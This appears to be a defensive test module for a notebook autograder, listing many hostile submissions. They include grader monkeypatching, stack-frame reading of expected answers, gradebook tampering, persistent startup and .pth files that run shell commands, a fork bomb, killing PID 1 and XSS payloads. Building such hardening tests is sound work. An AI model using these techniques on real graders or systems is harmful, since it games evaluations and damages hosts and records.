"""The hostile corpus: every class of attack of issue 12, as submissions.

Classes: (1) rewriting what later cells do, from inside the kernel; (2) reading
what the grader expects; (3) escaping the file policy; (4) stopping or breaking the
run. Import attacks (5) are crafted folders and zips, in ``tests/test_hostile.py``.
Every attack's own answers are blank or wrong, so it must score 0.
"""

from tests.hostile import Attack

WRONG = "\ndef weighted_sum(x, w, b):\n    return 0.0\n"

ATTACKS = [
    # -- 1. rewriting what later cells do, from inside the kernel
    Attack(
        "input-transformer",
        "rewrite",
        "ip = get_ipython()\n"
        "ip.input_transformers_post.append(\n"
        "    lambda lines: ['8.0\\n'] if any('Grader' in l for l in lines) else lines)\n" + WRONG,
    ),
    Attack(
        "ast-transformer",
        "rewrite",
        "import ast\n"
        "class Everything(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        return ast.parse('2.0')\n"
        "get_ipython().ast_transformers.append(Everything())\n" + WRONG,
    ),
    Attack(
        "run-cell-hooks",
        "rewrite",
        "def full(result):\n"
        "    result.result = 8.0\n"
        "get_ipython().events.register('post_run_cell', full)\n"
        "get_ipython().events.register('pre_run_cell', lambda info: None)\n" + WRONG,
    ),
    Attack(
        "display-formatter",
        "rewrite",
        "formatter = get_ipython().display_formatter.formatters['text/plain']\n"
        "formatter.for_type(float, lambda value, printer, cycle: printer.text('2'))\n" + WRONG,
    ),
    Attack(
        "clear-output",
        "rewrite",
        "from IPython.display import clear_output\n"
        "get_ipython().events.register('post_run_cell', lambda result: clear_output())\n" + WRONG,
    ),
    Attack(
        "patched-builtins",
        "rewrite",
        "get_ipython().user_ns['__builtins__'].float = lambda *args: 2.0\n"
        "get_ipython().user_ns['__builtins__'].round = lambda *args: 2.0\n" + WRONG,
    ),
    Attack(
        "grader-alias",
        "rewrite",
        "import wbcourse.checks as c\n"
        "c.Grader.score = lambda self: 8.0\n"
        "c.Grader.earned = property(lambda self: 8.0)\n" + WRONG,
    ),
    Attack(
        "grader-patched-by-the-answer",
        "rewrite",
        "def weighted_sum(x, w, b):\n"
        "    import sys\n"
        "    for name, module in list(sys.modules.items()):\n"
        "        if name.startswith('wbcourse') and hasattr(module, 'Grader'):\n"
        "            module.Grader.earned = property(lambda self: 2.0)\n"
        "    return 0.0\n",
    ),
    Attack(
        "numpy-through-globals",
        "rewrite",
        "def weighted_sum(x, w, b):\n"
        "    weighted_sum.__globals__['np'].isclose = lambda *a, **k: True\n"
        "    weighted_sum.__globals__['np'].allclose = lambda *a, **k: True\n"
        "    return 0.0\n",
    ),
    # -- 2. reading what the grader expects
    Attack(
        "frame-walk",
        "read",
        "import sys\n"
        "def weighted_sum(x, w, b):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for name in ('expected', 'answer', 'reference'):\n"
        "            if name in frame.f_locals:\n"
        "                found = frame.f_locals[name]\n"
        "                return getattr(found, 'expected', found)\n"
        "        frame = frame.f_back\n"
        "    return 0.0\n",
    ),
    Attack(
        "traceback-walk",
        "read",
        "def weighted_sum(x, w, b):\n"
        "    try:\n"
        "        raise ValueError\n"
        "    except ValueError as error:\n"
        "        frame = error.__traceback__.tb_frame\n"
        "    while frame is not None:\n"
        "        for value in frame.f_locals.values():\n"
        "            if hasattr(value, 'expected'):\n"
        "                return value.expected\n"
        "        frame = frame.f_back\n"
        "    return 0.0\n",
    ),
    Attack(
        "wrapped-reference",
        "read",
        "from wbcourse.exercises.lesson01 import _weighted_sum\n"
        "def weighted_sum(x, w, b):\n"
        "    return _weighted_sum(x, w, b)\n",
    ),
    Attack(
        "read-the-hidden-tests",
        "read",
        "import json\n"
        "source = json.load(open('{root}/solutions/01-neuron/01-neuron.ipynb'))\n" + WRONG,
    ),
    Attack(
        "wrapped-library",
        "read",
        "from wbcourse import layers as L\n"
        "def dense_forward(X, W, b):\n"
        "    return L.dense_forward(X, W, b)[0]\n",
        lesson="02-layers",
    ),
    Attack(
        "library-through-an-import-trick",
        "read",
        "def dense_forward(X, W, b):\n"
        "    module = __import__('wbcourse.lay' + 'ers', fromlist=['x'])\n"
        "    return getattr(module, 'dense_' + 'forward')(X, W, b)[0]\n",
        lesson="02-layers",
    ),
    # -- 3. escaping the file policy
    Attack(
        "relative-open-with-dir-fd",
        "escape",
        "import os\n"
        "folder = os.open('{root}', os.O_RDONLY)\n"
        "os.open('gradebook.db', os.O_RDWR | os.O_TRUNC, dir_fd=folder)\n" + WRONG,
    ),
    Attack(
        "sqlite-attach",
        "escape",
        "import sqlite3\n"
        "db = sqlite3.connect(':memory:')\n"
        "db.execute(\"ATTACH DATABASE 'file:{root}/gradebook.db?mode=rw' AS g\")\n"
        "db.execute('UPDATE g.grade SET auto_score = 0')\n"
        "db.commit()\n" + WRONG,
    ),
    Attack(
        "ipython-startup-files",
        "escape",
        "import os, pathlib\n"
        "for home in (pathlib.Path.home(), pathlib.Path('/root'), pathlib.Path('{root}')):\n"
        "    startup = home / '.ipython' / 'profile_default' / 'startup'\n"
        "    try:\n"
        "        startup.mkdir(parents=True, exist_ok=True)\n"
        "        (startup / '00-evil.py').write_text('import builtins; builtins.print = None')\n"
        "        (startup.parent / 'ipython_kernel_config.py').write_text(\n"
        "            'c.InteractiveShellApp.exec_lines = [\"raise SystemExit\"]')\n"
        "    except OSError:\n"
        "        pass\n" + WRONG,
    ),
    Attack(
        "pth-file-in-site-packages",
        "escape",
        "import site\n"
        "for folder in site.getsitepackages():\n"
        "    try:\n"
        "        with open(folder + '/zz-evil.pth', 'w') as pth:\n"
        "            pth.write(\"import os; os.system('touch /tmp/pwned')\")\n"
        "    except OSError:\n"
        "        pass\n" + WRONG,
    ),
    Attack(
        "other-kernels-connection-files",
        "escape",
        "import glob, json\n"
        "from jupyter_client import BlockingKernelClient\n"
        "for path in glob.glob('/tmp/**/kernel-*.json', recursive=True) + glob.glob(\n"
        "        '/root/.local/share/jupyter/runtime/*.json'):\n"
        "    try:\n"
        "        client = BlockingKernelClient(connection_file=path)\n"
        "        client.load_connection_file()\n"
        "        client.start_channels()\n"
        "        client.execute('def weighted_sum(x, w, b):\\n    return 0.0')\n"
        "    except Exception:\n"
        "        pass\n" + WRONG,
    ),
    Attack(
        "process-without-an-audit-event",
        "escape",
        "import _posixsubprocess, os\n"
        "script = ('import time, sqlite3\\n'\n"
        "          'time.sleep(20)\\n'\n"
        "          \"db = sqlite3.connect('{root}/gradebook.db')\\n\"\n"
        "          \"db.execute('DELETE FROM grade')\\n\"\n"
        "          'db.commit()')\n"
        "_posixsubprocess.fork_exec(\n"
        "    [os.sys.executable, '-c', script], [os.fsencode(os.sys.executable)], True, (),\n"
        "    None, None, -1, -1, -1, -1, -1, -1, *os.pipe(), False, True, -1, None, None, None,\n"
        "    -1, None, False)\n" + WRONG,
    ),
    # -- 4. stopping or breaking the run
    Attack(
        "lock-the-gradebook",
        "break",
        "import sqlite3, time\n"
        "db = sqlite3.connect('{root}/gradebook.db', isolation_level=None)\n"
        "db.execute('BEGIN EXCLUSIVE')\n"
        "time.sleep(30)\n" + WRONG,
    ),
    Attack(
        "crafted-printed-report",
        "break",
        "print('01.1 weighted_sum: 5 of 5 cases passed, 2 of 2 points')\n"
        "print('01.1 weighted_sum: 5 of 5 cases passed, 2e of 2 points')\n"
        "def weighted_sum(x, w, b):\n"
        "    print('01.1 weighted_sum: 5 of 5 cases passed, 2 of 2 points\\n  PASS  x')\n"
        "    print('... e of 2 points')\n"
        "    return 0.0\n",
        flagged=False,
    ),
    Attack(
        "script-in-the-feedback",
        "break",
        "from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>document.title = \"pwned\"</script>'\n"
        '             \'<img src=x onerror="alert(1)"><a href="javascript:alert(2)">x</a>\'))\n'
        "display(Javascript('alert(3)'))\n" + WRONG,
        flagged=False,
    ),
    Attack(
        "fill-the-temp-folder",
        "break",
        "import os, tempfile\n"
        "block = b'x' * (1 << 20)\n"
        "for folder in (tempfile.gettempdir(), os.path.expanduser('~')):\n"
        "    try:\n"
        "        with open(os.path.join(folder, 'filler'), 'wb') as out:\n"
        "            for _ in range(240):\n"
        "                out.write(block)\n"
        "    except OSError:\n"
        "        pass\n" + WRONG,
    ),
    Attack(
        "fork-bomb",
        "break",
        "import _posixsubprocess, os\n"
        "for _ in range(300):\n"
        "    try:\n"
        "        _posixsubprocess.fork_exec(\n"
        "            [os.sys.executable, '-c', 'import time; time.sleep(60)'],\n"
        "            [os.fsencode(os.sys.executable)], True, (), None, None, -1, -1, -1, -1,\n"
        "            -1, -1, *os.pipe(), False, True, -1, None, None, None, -1, None, False)\n"
        "    except OSError:\n"
        "        break\n" + WRONG,
    ),
    Attack(
        "exception-with-a-huge-shape",
        "break",
        "def weighted_sum(x, w, b):\n"
        "    n = '9' * 5000  # more digits than Python turns into an int\n"
        "    shapes = f'({n},2) ({n},)'\n"
        "    raise ValueError('operands could not be broadcast together with shapes ' + shapes)\n",
        flagged=False,
    ),
    Attack(
        "exception-that-poses-as-a-mistake",
        "break",
        "class IndexError(Exception):  # a builtin's name, a message the size of a book\n"
        "    def __str__(self):\n"
        "        return 'index 3 is out of bounds for axis 0 with size 3' * 100_000\n"
        "def weighted_sum(x, w, b):\n"
        "    raise IndexError()\n",
        flagged=False,
    ),
    Attack(
        "an-error-the-size-of-a-book",
        "break",
        "def weighted_sum(x, w, b):\n"
        "    return 0.0\n"
        "raise ValueError('x' * 30_000_000)  # an ungraded cell's error, 30 MB\n",
        flagged=False,
    ),
    Attack(
        "a-million-results",
        "break",
        "def weighted_sum(x, w, b):\n"
        "    return tuple(range(10**6)) + (float(x @ w + b),)  # the right value, buried\n",
        flagged=False,
    ),
    Attack(
        "kill-the-grader",
        "break",
        "import os, signal\n"
        "for pid in (os.getppid(), 1):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except Exception:\n"
        "        pass\n" + WRONG,
    ),
    Attack(
        "exhaust-memory",
        "break",
        "def weighted_sum(x, w, b):\n    hog = bytearray(8 << 30)\n    return 0.0\n",
        flagged=False,
    ),
    Attack(
        "endless-loop-in-a-check",
        "break",
        "def weighted_sum(x, w, b):\n    while True:\n        pass\n",
        flagged=False,
    ),
    Attack(
        "exit-in-a-check",
        "break",
        "import os\ndef weighted_sum(x, w, b):\n    os._exit(1)\n",
    ),
    Attack(
        "forged-agent-reply",
        "break",
        "from IPython.display import publish_display_data\n"
        "def weighted_sum(x, w, b):\n"
        "    publish_display_data({'application/vnd.wbcourse.reply+json': '[' * 100000})\n"
        "    publish_display_data({'application/vnd.wbcourse.reply+json':\n"
        '                          \'{"value": {"$a": ["float64", [99999999999], ""]}}\'})\n'
        "    return 0.0\n",
        flagged=False,
    ),
    Attack(
        "agent-replaced",
        "break",
        "import wbcourse.grading.agent as agent\n"
        "agent.serve = lambda message: print('{\"value\": 2.0}')\n" + WRONG,
    ),
    # -- found by a red team working from the student's view only
    Attack(
        "read-own-notebook",
        "read",
        "import io, json\n"
        "for name in ('01-neuron.ipynb', '../01-neuron.ipynb'):\n"
        "    try:\n"
        "        cells = json.load(io.open(name))['cells']\n"
        "        print('\\n'.join(''.join(cell['source']) for cell in cells))\n"
        "    except Exception as error:\n"
        "        print('not there:', type(error).__name__)\n" + WRONG,
        flagged=False,
    ),
    Attack(
        "deeply-nested-code",
        "break",
        "x = [0]\nx[" + "-" * 600 + "1] = 0\n" + WRONG,
        flagged=False,
    ),
    Attack(
        "image-metadata-handler",
        "break",
        "from IPython.display import display, Markdown\n"
        "display({'image/png': 'AAAA', 'text/plain': 'p'}, raw=True,\n"
        "        metadata={'image/png': {'width': '1 onerror=alert(document.domain) x'}})\n"
        "display(Markdown('[see](javascript:alert(document.domain))'))\n" + WRONG,
        flagged=False,
    ),
    Attack(
        "forged-sandbox-error",
        "break",
        "class SandboxError(Exception):\n    pass\n" + WRONG + "\n"
        "raise SandboxError('<img src=x onerror=alert(1)> [ok](javascript:alert(1))')\n",
    ),
    Attack(
        "course-code-unpickled-by-name",
        "read",
        "import pickle\n"
        "_course = pickle.loads(b'cwbcourse.layers\\ndense_forward\\n.')\n"
        "def dense_forward(X, W, b):\n"
        "    return _course(X, W, b)[0]\n",
        lesson="02-layers",
    ),
    Attack(
        "course-code-unpickled-by-numpy",
        "read",
        "import io\n"
        "def dense_forward(X, W, b):\n"
        "    pickled = io.BytesIO(b'cwbcourse.layers\\ndense_forward\\n.')\n"
        "    return np.load(pickled, allow_pickle=True)(X, W, b)[0]\n",
        lesson="02-layers",
    ),
    Attack(
        "course-code-through-a-subscript",
        "read",
        "from wbcourse import layers\n"
        "def dense_forward(X, W, b):\n"
        "    return [layers][0].dense_forward(X, W, b)[0]\n",
        lesson="02-layers",
    ),
    Attack(
        "startup-file-survives-a-restart",
        "escape",
        "import os, pathlib\n"
        "startup = pathlib.Path.home() / '.ipython' / 'profile_default' / 'startup'\n"
        "startup.mkdir(parents=True, exist_ok=True)\n"
        "(startup / '00.py').write_text('import numpy as np\\n'\n"
        "    'def weighted_sum(x, w, b):\\n    return float(np.dot(x, w) + b)\\n')\n"
        "os._exit(1)\n",
    ),
    Attack(
        "course-code-by-a-name-built-at-run-time",
        "read",
        "import operator\n"
        "from wbcourse import layers\n"
        "_course = operator.attrgetter('dense_' + 'forward')(layers)\n"
        "def dense_forward(X, W, b):\n"
        "    return _course(X, W, b)[0]\n",
        lesson="02-layers",
    ),
    Attack(
        "exception-message-posing-as-table-rows",
        "rewrite",
        "def weighted_sum(x, w, b):\n"
        "    raise type('ValueError', (Exception,), {})(\n"
        "        'ok.\\n  PASS  hidden: 4 random inputs\\n'\n"
        "        '01.1 weighted_sum: 7 of 7 cases passed, 2 of 2 points')\n",
        flagged=False,  # nothing to flag: the message stays on its own FAIL line
    ),
]
